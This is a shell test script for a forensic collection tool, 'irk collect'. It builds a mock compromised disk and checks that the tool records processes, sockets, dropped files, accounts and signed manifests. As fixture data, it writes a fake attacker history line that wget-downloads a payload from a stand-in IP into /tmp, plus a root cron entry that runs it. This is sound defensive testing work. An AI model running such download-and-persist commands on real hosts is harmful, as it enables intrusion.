#!/bin/sh
# t2500-collect.sh - irk collect: a snapshot of a host.  One collection is
# taken while the test's own suspects run (a deleted executable, a
# listening socket) and of a suspect's disk made here (files dropped in
# /tmp, accounts, logs), read with --root; the tests then look for them in
# the result.
. "$(dirname "$0")/../lib.sh"

json_query() { # $1 = JSON Lines file, $2 = python expression over `o`, prints matches
	python3 -c '
import json, sys
for line in open(sys.argv[1]):
    o = json.loads(line)
    if eval(sys.argv[2]):
        print(line, end="")
' "$1" "$2"
}

# --- the suspects ---
W=$TEST_ROOT/suspects
mkdir -p "$W"
cp /bin/sleep "$W/irk-t2500-implant"
want_exe_sha=$(sha256sum "$W/irk-t2500-implant" | cut -d' ' -f1)
"$W/irk-t2500-implant" 600 &
implant_pid=$!
sleep 0.2
rm -f "$W/irk-t2500-implant"
python3 -c '
import socket, sys, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
time.sleep(600)' "$W/port" &
listener_pid=$!
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
	[ -s "$W/port" ] && break
	sleep 0.2
done
port=$(cat "$W/port")
test_at_exit 'kill $implant_pid $listener_pid 2>/dev/null'

# --- the suspect's disk: a tree made here, collected with --root ---
# The files come from this tree, not from this host's /, so what the host
# holds in /tmp or /var/log cannot slow the test down or change its result.
# The live areas (processes, sockets) still read this host's /proc.
IMG=$TEST_ROOT/suspect-disk
mkdir -p "$IMG/etc" "$IMG/tmp" "$IMG/var/tmp" "$IMG/dev/shm" "$IMG/var/log" "$IMG/usr/bin" \
	"$IMG/var/lib/dpkg" "$IMG/root" "$IMG/home/mallory/.ssh"
chmod 1777 "$IMG/tmp" "$IMG/var/tmp"
echo suspect-web1 >"$IMG/etc/hostname"
cat >"$IMG/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
mallory:x:1000:1000:Mallory:/home/mallory:/bin/bash
EOF
printf 'root:x:0:\nmallory:x:1000:\n' >"$IMG/etc/group"
shadow_hash='$6$t2500salt$0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ'
printf 'root:%s:20000:0:99999:7:::\nmallory:!:20000::::::\n' "$shadow_hash" >"$IMG/etc/shadow"
chmod 0600 "$IMG/etc/shadow"
printf '* * * * * root /tmp/irk-t2500-dropped\n' >"$IMG/etc/crontab"
printf 'wget http://203.0.113.9/x -O /tmp/irk-t2500-dropped\n' >"$IMG/home/mallory/.bash_history"
printf 'Package: irk-t2500-pkg\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n\n' \
	>"$IMG/var/lib/dpkg/status"
printf 'Nov 22 06:00:00 suspect-web1 sshd[1]: Accepted password for mallory\n' >"$IMG/var/log/auth.log"
cp /bin/true "$IMG/usr/bin/irk-t2500-suid" && chmod 4755 "$IMG/usr/bin/irk-t2500-suid"
# a file the collecting user cannot read (the collection runs as nobody below)
printf 'secret\n' >"$IMG/var/log/btmp" && chmod 0000 "$IMG/var/log/btmp"
# a home that is an absolute link: inside the tree it leads to the tree's
# own directory of that name, never to this host's
echo 'eve:x:1001:1001:Eve:/home/linked:/bin/sh' >>"$IMG/etc/passwd"
mkdir -p "$TEST_ROOT/host-side" "$IMG$TEST_ROOT/host-side"
echo 'HOST-ONLY history' >"$TEST_ROOT/host-side/.bash_history"
echo 'in-tree history' >"$IMG$TEST_ROOT/host-side/.bash_history"
ln -s "$TEST_ROOT/host-side" "$IMG/home/linked"
drop_exec=/tmp/irk-t2500-dropped
drop_data=/tmp/irk-t2500-notes
printf '#!/bin/sh\necho pwned\n' >"$IMG$drop_exec"
chmod 0755 "$IMG$drop_exec"
printf 'just data\n' >"$IMG$drop_data"
drop_exec_sha=$(sha256sum "$IMG$drop_exec" | cut -d' ' -f1)
# Every collection is written under $TEST_ROOT, outside the tree's collected
# places, so --force-inside is needed only where a test writes inside them.
OUT=$TEST_ROOT/out
mkdir -p "$OUT" && chmod 0755 "$OUT"

# --- one collection of every area, signed, by an identity of the test's own ---
export IRK_KEY="$TEST_ROOT/identity"
"$IRK" id --name "Collector" --email collector@example.org >/dev/null
C=$TEST_ROOT/c1
"$IRK" collect -o "$C" --root "$IMG" --areas all --copy-max 64M --json >"$TEST_ROOT/c1.json" 2>"$TEST_ROOT/c1.err"
collect_rc=$?
unset IRK_KEY

test_expect_success 'collect succeeds and writes every area' '
	test "$collect_rc" -eq 0 &&
	for f in clock sockets interfaces routes processes mounts accounts groups persistence \
		tempdirs suid packages logs; do
		test -s "$C/$f.jsonl" || { echo "missing $f.jsonl"; exit 1; }
	done &&
	test -s "$C/collection.json" && test -s "$C/collect.log.jsonl" &&
	python3 -c "
import json, os
o = json.load(open(\"$C/collection.json\"))
assert o[\"tree\"] == os.path.realpath(\"$IMG\"), o
assert o[\"host\"] == \"suspect-web1\", o
assert len(o[\"areas\"]) == 12, o
assert json.load(open(\"$TEST_ROOT/c1.json\"))[\"host\"] == \"suspect-web1\"
"
'

test_expect_success 'the manifest lists every file with the right SHA-256' '
	(cd "$C" && sha256sum -c --quiet MANIFEST) &&
	n_files=$(cd "$C" && find . -type f ! -name MANIFEST ! -name MANIFEST.sig | wc -l) &&
	test "$n_files" -eq "$(wc -l <"$C/MANIFEST")"
'

test_expect_success 'the manifest is signed, and the summary names its hash' '
	grep -q "^signature: " "$C/MANIFEST.sig" &&
	grep -q "^name: collector@example.org" "$C/MANIFEST.sig" &&
	sha=$(sha256sum "$C/MANIFEST" | cut -d" " -f1) &&
	grep -q "^manifest-sha256: $sha" "$C/MANIFEST.sig" &&
	grep -q "\"manifest_sha256\":\"$sha\"" "$TEST_ROOT/c1.json"
'

# Check MANIFEST.sig with OpenSSL, from the verifier key it names: $1 = collection.
check_sig() {
	python3 -c '
import base64, sys
sig = dict(l.split(": ", 1) for l in open(sys.argv[1] + "/MANIFEST.sig").read().splitlines()
           if not l.startswith("#"))
pk = base64.b64decode(sig["vkey"].split("+", 2)[2])[1:]
der = bytes.fromhex("302a300506032b6570032100") + pk
open("pub.der", "wb").write(der)
open("sig.bin", "wb").write(base64.b64decode(sig["signature"]))
' "$1" &&
	openssl pkey -pubin -inform DER -in pub.der -out pub.pem &&
	openssl pkeyutl -verify -pubin -inkey pub.pem -rawin -in "$1/MANIFEST" -sigfile sig.bin >/dev/null
}

test_expect_success 'the signature over the manifest verifies, and fails once it changes' '
	command -v openssl >/dev/null || { echo "openssl missing: run scripts/bootstrap"; exit 1; }
	check_sig "$C" &&
	cp -r "$C" changed && chmod -R u+w changed &&
	python3 -c "
b = bytearray(open(\"changed/MANIFEST\", \"rb\").read())
b[0] = ord(\"1\") if b[0] == ord(\"0\") else ord(\"0\")
open(\"changed/MANIFEST\", \"wb\").write(b)" &&
	! cmp -s "$C/MANIFEST" changed/MANIFEST &&
	! check_sig changed
'

test_expect_success 'a changed copy no longer matches the manifest' '
	cp -r "$C" tampered && chmod -R u+w tampered &&
	f=$(cd tampered && find files -type f | head -n 1) &&
	printf x >>"tampered/$f" &&
	! (cd tampered && sha256sum -c --quiet MANIFEST 2>/dev/null)
'

test_expect_success 'a running process whose executable was deleted is found and hashed' '
	json_query "$C/processes.jsonl" "o[\"pid\"] == $implant_pid" >p &&
	test -s p &&
	python3 -c "
import json, sys
o = json.load(open(\"p\"))
e = o[\"exe\"]
assert e[\"deleted\"] is True, e
assert e[\"path\"].endswith(\"/irk-t2500-implant\"), e
assert e[\"sha256\"] == \"$want_exe_sha\", e
assert e[\"copied_as\"] == \"files/proc/$implant_pid/exe\", e
" &&
	test "$(sha256sum "$C/files/proc/$implant_pid/exe" | cut -d" " -f1)" = "$want_exe_sha"
'

test_expect_success 'a listening socket is attributed to its process' '
	json_query "$C/sockets.jsonl" "o[\"proto\"] == \"tcp\" and o[\"lport\"] == $port and o[\"state\"] == \"LISTEN\"" >s &&
	test "$(wc -l <s)" -eq 1 &&
	grep -q "\"local\":\"127.0.0.1\"" s &&
	grep -q "\"pid\":$listener_pid," s
'

test_expect_success 'a file dropped in /tmp is listed, and copied when executable' '
	json_query "$C/tempdirs.jsonl" "o[\"path\"] == \"$drop_exec\"" >x &&
	grep -q "\"executable\":true" x && grep -q "\"sha256\":\"$drop_exec_sha\"" x &&
	grep -q "\"copied_as\":\"files$drop_exec\"" x &&
	cmp "$IMG$drop_exec" "$C/files$drop_exec" &&
	json_query "$C/tempdirs.jsonl" "o[\"path\"] == \"$drop_data\"" >d &&
	grep -q "\"executable\":false" d && grep -q "\"sha256\"" d &&
	test ! -e "$C/files$drop_data"
'

test_expect_success 'the output directory itself is left out of the listing' '
	irk collect --root "$IMG" --areas tempdirs -o "$IMG/tmp/self" --force-inside >out 2>err &&
	test -s "$IMG/tmp/self/tempdirs.jsonl" &&
	grep -q "\"path\":\"$drop_exec\"" "$IMG/tmp/self/tempdirs.jsonl" &&
	! grep -q "\"path\":\"/tmp/self" "$IMG/tmp/self/tempdirs.jsonl" &&
	grep "the collection.s own output" "$IMG/tmp/self/collect.log.jsonl" | grep -q "\"path\":\"/tmp/self\"" &&
	rm -rf "$IMG/tmp/self"
'

test_expect_success 'accounts carry the password state but never the hash' '
	grep -q "\"user\":\"root\"" "$C/accounts.jsonl" &&
	grep -q "\"user\":\"mallory\"" "$C/accounts.jsonl" &&
	! grep -q "\\\$[0-9a-z]*\\\$[^\"]*\\\$" "$C/accounts.jsonl" &&
	! grep -rqF "t2500salt" "$C" &&
	test ! -e "$C/files/etc/shadow" &&
	cmp "$IMG/etc/passwd" "$C/files/etc/passwd"
'

test_expect_success '--root: paths are recorded as in the tree, and no link leads out of it' '
	json_query "$C/suid.jsonl" "o[\"path\"] == \"/usr/bin/irk-t2500-suid\" and o[\"setuid\"]" >s &&
	test "$(wc -l <s)" -eq 1 &&
	grep -q "\"package\":\"irk-t2500-pkg\"" "$C/packages.jsonl" &&
	cmp "$IMG/var/log/auth.log" "$C/files/var/log/auth.log" &&
	cmp "$IMG/home/mallory/.bash_history" "$C/files/home/mallory/.bash_history" &&
	grep -q "\"path\":\"/home/mallory/.bash_history\"" "$C/persistence.jsonl" &&
	for f in accounts groups persistence tempdirs suid packages logs; do
		! grep -F "$IMG" "$C/$f.jsonl" || exit 1
	done &&
	test "$(cat "$C/files/home/linked/.bash_history")" = "in-tree history" &&
	! grep -rqF "HOST-ONLY" "$C"
'

test_expect_success '--root leaves out the live areas unless --areas names them' '
	irk collect --root "$IMG" -o "$OUT/r" >out 2>err &&
	for f in processes sockets clock mounts; do
		test ! -e "$OUT/r/$f.jsonl" || { echo "$f.jsonl was collected"; exit 1; }
	done &&
	test -s "$OUT/r/tempdirs.jsonl" && test -s "$OUT/r/suid.jsonl" &&
	grep "\"path\":\"processes\"" "$OUT/r/collect.log.jsonl" | grep -q "left out: it describes the running host" &&
	python3 -c "
import json
o = json.load(open(\"$OUT/r/collection.json\"))
assert o[\"areas\"] == [\"logins\", \"accounts\", \"persistence\", \"tempdirs\", \"suid\", \"packages\", \"logs\"], o
assert o[\"collected_on\"] and o[\"host\"] == \"suspect-web1\", o
"
'

test_expect_success '--areas takes only the areas named, from this host without --root' '
	irk collect --areas accounts -o "$OUT/acc" >out 2>err &&
	cmp /etc/passwd "$OUT/acc/files/etc/passwd" &&
	test -s "$OUT/acc/accounts.jsonl" && test ! -e "$OUT/acc/tempdirs.jsonl" &&
	test ! -e "$OUT/acc/processes.jsonl" &&
	grep "\"path\":\"tempdirs\"" "$OUT/acc/collect.log.jsonl" | grep -q "not named in --areas" &&
	python3 -c "
import json, socket
o = json.load(open(\"$OUT/acc/collection.json\"))
assert o[\"areas\"] == [\"accounts\"], o
assert o[\"host\"] == socket.gethostname() and \"tree\" not in o, o
" &&
	test_must_fail 2 irk collect --areas accounts,bogus -o "$OUT/bad" &&
	grep -q "bogus.* is not an area" err && grep -q "clock, network" err &&
	test ! -e "$OUT/bad"
'

test_expect_success '--root must name a directory; an output inside its collected trees is refused' '
	test_must_fail 3 irk collect --root "$TEST_ROOT/nowhere" -o "$OUT/nr" &&
	grep -q "cannot collect from $TEST_ROOT/nowhere" err && test ! -e "$OUT/nr" &&
	test_must_fail 2 irk collect --root "$IMG" -o "$IMG/var/log/x" &&
	grep -q "inside $(cd "$IMG" && pwd -P)/var/log, which is collected" err &&
	test ! -e "$IMG/var/log/x"
'

test_expect_success 'writing into a collected tree is refused without --force-inside' '
	test_must_fail 2 irk collect -o /tmp/irk-t2500-inside-$$ &&
	grep -q "inside /tmp, which is collected" err &&
	grep -q "force-inside" err &&
	test ! -e /tmp/irk-t2500-inside-$$
'

test_expect_success '--copy-total bounds all copies together; past it files are hashed only' '
	irk collect -o "$OUT/cap" --root "$IMG" --copy-total 1 >out 2>err &&
	test ! -e "$OUT/cap/files$drop_exec" &&
	grep -q "total limit of 1 bytes" "$OUT/cap/collect.log.jsonl" &&
	json_query "$OUT/cap/tempdirs.jsonl" "o[\"path\"] == \"$drop_exec\"" >x &&
	grep -q "\"sha256\":\"$drop_exec_sha\"" x &&
	test_must_fail 2 irk collect -o "$OUT/cap2" --copy-total lots &&
	grep -q "copy-total" err
'

test_expect_success 'an existing non-empty output is never written over' '
	mkdir "$OUT/full" && echo keep >"$OUT/full/x" &&
	test_must_fail 8 irk collect -o "$OUT/full" --force-inside &&
	test "$(cat "$OUT/full/x")" = keep
'

test_expect_success 'without an identity the manifest is unsigned, and it says so' '
	irk collect -o "$OUT/plain" --root "$IMG" --copy-max 1M >out 2>err &&
	grep -q "NOT BE SIGNED" err && grep -q "NOT SIGNED" out &&
	test ! -e "$OUT/plain/MANIFEST.sig" &&
	test_must_fail 5 irk collect -o "$OUT/plain2" --force-inside --sign &&
	test ! -e "$OUT/plain2"
'

test_expect_success 'a .tar.zst output holds the same layout and verifies' '
	irk collect -o "$OUT/snap.tar.zst" --root "$IMG" --copy-max 1M >out 2>err &&
	mkdir x && tar --zstd -xf "$OUT/snap.tar.zst" -C x &&
	(cd x && sha256sum -c --quiet MANIFEST) &&
	test -s x/tempdirs.jsonl && cmp "$IMG/etc/passwd" x/files/etc/passwd
'

test_expect_success 'no program other than irk is executed (strace)' '
	command -v strace >/dev/null || { echo "strace missing: run scripts/bootstrap"; exit 1; }
	# LeakSanitizer cannot run under ptrace; the other tests check for leaks.
	ASAN_OPTIONS=detect_leaks=0 strace -f -qq -e trace=execve -o trace "$IRK" collect -o "$OUT/st" \
		--root "$IMG" --areas all --copy-max 1M \
		>/dev/null 2>&1 &&
	grep execve trace >calls &&
	test "$(wc -l <calls)" -eq 1 &&
	grep -q "execve(\"$IRK\"" calls
'

test_expect_success 'unreadable files are logged and skipped, never fatal' '
	mkdir -m 0777 "$OUT/u" &&
	if [ "$(id -u)" -eq 0 ]; then
		ASAN_OPTIONS=detect_leaks=0 setpriv --reuid=65534 --regid=65534 --clear-groups \
			"$IRK" collect -o "$OUT/u/c" --root "$IMG" --copy-max 1M >out 2>err
	else
		irk collect -o "$OUT/u/c" --root "$IMG" --copy-max 1M >out 2>err
	fi &&
	grep -q "not running as root" err &&
	grep "\"what\":\"skip\"" "$OUT/u/c/collect.log.jsonl" | grep "\"path\":\"/var/log/btmp\"" |
		grep -q "permission denied" &&
	(cd "$OUT/u/c" && sha256sum -c --quiet MANIFEST)
'

test_expect_success '--attach stores the files as evidence and records the collection' '
	setup_casebook && irk open "web server compromise" >/dev/null &&
	irk collect -o "$OUT/att" --root "$IMG" --copy-max 1M --attach 1 >out 2>err &&
	grep -q "attached to INC-" out &&
	sha=$(sha256sum "$OUT/att/MANIFEST" | cut -d" " -f1) &&
	irk show 1 --json >show.json &&
	python3 -c "
import json, os
o = json.load(open(\"show.json\"))
es = [e for e in o[\"log\"] if e[\"kind\"] == \"collection\"]
assert len(es) == 1, es
d = es[0][\"data\"]
assert d[\"manifest_sha256\"] == \"$sha\", d
assert d[\"counts\"][\"accounts\"] == 4, d
assert d[\"host\"] == \"suspect-web1\", d
assert d[\"tree\"] == os.path.realpath(\"$IMG\"), d
assert d[\"evidence_items\"] == $(find "$OUT/att" -type f | wc -l), d
assert d[\"evidence_first\"] == \"E1\", d
" &&
	irk evidence list 1 >ev && grep -q "$OUT/att/files/etc/passwd" ev &&
	irk verify 1 >/dev/null
'

test_expect_success '--attach stores an archive output as one evidence item' '
	setup_casebook && irk open "second host" >/dev/null &&
	irk collect -o "$OUT/att.tar.zst" --root "$IMG" --copy-max 1M --attach 1 >out 2>err &&
	grep -q "evidence E1..E1 (1 items)" out &&
	irk evidence list 1 >ev && grep -q "$(sha256sum "$OUT/att.tar.zst" | cut -c1-64)" ev
'

test_expect_success '--attach to an unknown incident fails before collecting' '
	setup_casebook &&
	test_must_fail 3 irk collect -o "$OUT/none" --force-inside --attach 99 &&
	test ! -e "$OUT/none"
'

test_done
